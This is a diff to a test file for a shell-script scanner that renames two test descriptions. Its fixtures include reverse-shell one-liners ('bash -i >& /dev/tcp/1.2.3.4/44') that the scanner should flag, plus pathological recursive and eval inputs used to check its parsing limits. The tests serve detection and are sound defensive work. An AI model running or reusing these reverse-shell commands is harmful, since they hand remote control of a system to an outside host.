@@ -6,7 +6,7 @@ import { readShellProgram } from '../../packages/scanner/src/code/shell/run.ts'
 
 const facts = (script: string) => listFacts(readShellProgram(script))
 
-describe('what a shell script does in one place', () => {
+describe('a risky operation of a shell script', () => {
   const done = [
     'shell-connected tcp://1.2.3.4:44/ ⟸ bash -i >& /dev/tcp/1.2.3.4/44 0>&1',
     'shell-connected tcp://1.2.3.4:44/ ⟸ sh -c "bash -i &> /dev/tcp/1.2.3.4/44 <&1"',
@@ -111,7 +111,7 @@ describe('the reader of shell scripts', () => {
     '$(¦${a:-¦(¦"$(¦`¦$((¦<<A ¦cat <<A\n¦if a; then ¦{ ¦a|¦case a in b) ¦"¦\'a¦[[ a == +(¦{a,b}¦a=(¦<(¦$(a) ¦(( a ? ¦a[¦x="$(a "b $(c "¦x="$x$x$x"\n¦\u0000￼$%^&*()¦eval "$x$x" ; x="$x$x";¦f1(){ f2; f2; }; f2(){ f1; f1; }; f1\n¦bash $0; . $0\n¦for i in a b c; do '.split(
       '¦',
     )
-  it.each(units)('reads many %j in bounded work', (unit) => {
+  it.each(units)('reads many repetitions of %j within its limit of work', (unit) => {
     const reading = readShellProgram(unit.repeat(8000))
     expect(reading.cut ?? '').not.toContain('could not')
   })
